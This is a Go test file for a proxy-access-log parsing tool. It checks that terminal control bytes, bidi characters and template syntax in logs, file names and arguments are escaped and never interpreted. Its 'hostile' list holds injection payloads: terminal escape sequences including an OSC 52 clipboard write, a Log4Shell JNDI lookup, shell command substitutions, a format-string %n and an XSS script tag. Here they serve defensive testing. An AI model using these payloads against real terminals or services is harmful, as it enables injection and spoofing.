package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// hostile is what a terminal or a pager would obey, and what a template or a
// format would.
var hostile = []string{
	"\x1b[2J", "\x1b]0;title\a", "\x1b]52;c;ZXZpbA==\x1b\\", "\u009b31m", "\x9b31m", "\x7f\b\b", "\r\r",
	"\u202Etxt.exe", "\u2066\u2069\u200b\ufeff", "\u2028\u2029", "\U000E0041", "\xff\xfe", "\x00",
	"${jndi:ldap://192.0.2.1/a}", "{{printf 1}}", "%s%n%!d(x)", "`id`", "$(id)", "<script>alert(1)</script>",
}

// hostileLog puts each into every place of a line that others write.
func hostileLog() []byte {
	var b bytes.Buffer
	for _, h := range hostile {
		quoted := strings.NewReplacer("\x1b", `\u001b`, "\a", `\u0007`, "\b", `\b`, "\r", `\r`, "\x00", `\u0000`, "\x7f", `\u007f`, "\\", `\\`).Replace(h)
		fmt.Fprintf(&b, "[2026-03-17T10:09:12.480Z] \"GET /a%s HTTP/1.1\" 503 U%s det%s - \"tls%s\" 0 167 58 - \"%s\" \"ua%s\" \"id%s\" \"host%s\" \"192.0.2.43:9080\" outbound|9080||%s - 198.51.100.12:9080 192.0.2.21:44867 sni%s route%s\n", h, h, h, h, h, h, h, h, h, h, h)
		fmt.Fprintf(&b, "[2026-03-17T10:09:12.480Z] \"GET /a HTTP/1.1\" 503 UF 0 167 58 - \"-\" \"ua%s\" \"id\" \"host%s\" \"192.0.2.43:9080\"\n", h, h)
		fmt.Fprintf(&b, "{\"start_time\":\"%s\",\"response_code\":503,\"response_flags\":\"UF,%s\",\"path\":\"%s\",\"upstream_cluster\":\"%s\",\"upstream_host\":\"%s\",\"response_code_details\":\"%s\",\"k%s\":{\"n\":\"%s\"}}\n", quoted, quoted, quoted, quoted, quoted, quoted, quoted, quoted)
		fmt.Fprintf(&b, "2026-03-17T10:02:12.911000Z\terror\txds%s\tfailed %s\n", h, h)
		fmt.Fprintf(&b, "[2026-03-17 10:02:12.911][1][critical][main] [source/a.cc:1] %s\n", h)
		fmt.Fprintf(&b, "2026-03-17T10:09:13.000000000Z stdout F %s\n", h)
		fmt.Fprintf(&b, "[pod/%s/istio-proxy] %s\n", h, h)
		fmt.Fprintf(&b, "Error from server (NotFound): pods \"%s\" not found\n", h)
		fmt.Fprintf(&b, "%s\n", h)
	}
	return b.Bytes()
}

// S08: no byte of any output is obeyed by a terminal, whatever the command,
// the errors included.
func TestNothingIsObeyed(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "a\x1b[2J\u202E\u009b.log")
	writeFile(t, log, hostileLog())
	empty := filepath.Join(dir, "empty\x1b[2J.log")
	writeFile(t, empty, nil)
	noise := filepath.Join(dir, "noise\x1b[2J.log")
	writeFile(t, noise, []byte(strings.Join(hostile, "\n")))
	for _, args := range [][]string{
		{log}, {"-v", log}, {"-o", "json", "-v", log}, {"parse", "-v", log}, {"parse", log, empty, noise},
		{empty}, {noise}, {"parse", noise}, {"-o", "json", noise},
		{"none\x1b[2J\u202E"}, {"a[\x1b[2J"}, {"*\x1b[2J"}, {"-o", "x\x1b[2J"}, {"--x\x1b[2J"}, {"-\x1b"}, {"list", "x\x1b[2J"}, {"help", "x\x1b[2J"},
		{"completion", "x\x1b[2J"}, {"version", "x\x1b[2J"}, {"parse", "--x\u202E=1"}, {"-j", "\x1b[2J"},
	} {
		var out, errs bytes.Buffer
		code := run(t.Context(), args, streams{openNull(t), &out, &errs, noEnv})
		if code > 4 {
			t.Errorf("%q: exit code %d", args, code)
		}
		if out.Len()+errs.Len() == 0 {
			t.Errorf("%q printed nothing", args)
		}
		checkHarmless(t, args, out.String())
		checkHarmless(t, args, errs.String())
	}
}

// What is no control comes out as it went in: nothing is looked up or filled
// in (S38).
func TestTemplatesAreText(t *testing.T) {
	log := filepath.Join(t.TempDir(), "a.log")
	writeFile(t, log, hostileLog())
	var out bytes.Buffer
	run(t.Context(), []string{"parse", log}, streams{openNull(t), &out, &out, noEnv})
	for _, h := range hostile[len(hostile)-6:] {
		if want := `"user_agent":"ua` + h + `"`; !strings.Contains(out.String(), want) {
			t.Errorf("no %s in the output", want)
		}
	}
}

func checkHarmless(t *testing.T, args []string, text string) {
	t.Helper()
	for i, r := range text {
		if r == '\n' || r == '\t' {
			continue
		}
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) || strings.IndexByte(text[i:], 0xFF) == 0 {
			t.Errorf("%q: %U at byte %d: %q", args, r, i, text[max(0, i-40):min(len(text), i+40)])
			return
		}
	}
}

// An interrupted run of a file is incomplete: exit code 1, and a report of
// what was read.
func TestInterruptedFile(t *testing.T) {
	log := filepath.Join(t.TempDir(), "a.log")
	writeFile(t, log, hostileLog())
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	var out, errs bytes.Buffer
	code := run(ctx, []string{"-o", "json", log}, streams{openNull(t), &out, &errs, noEnv})
	if code != exitIncomplete || !strings.Contains(out.String(), `"kind": "Report"`) || !strings.Contains(errs.String(), "a.log: ") {
		t.Errorf("exit code %d\n%s\n%s", code, out.String(), errs.String())
	}
}

func writeFile(t *testing.T, name string, data []byte) {
	t.Helper()
	if err := os.WriteFile(name, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

func openNull(t *testing.T) *os.File {
	t.Helper()
	f, err := os.Open(os.DevNull)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func noEnv(string) string { return "" }
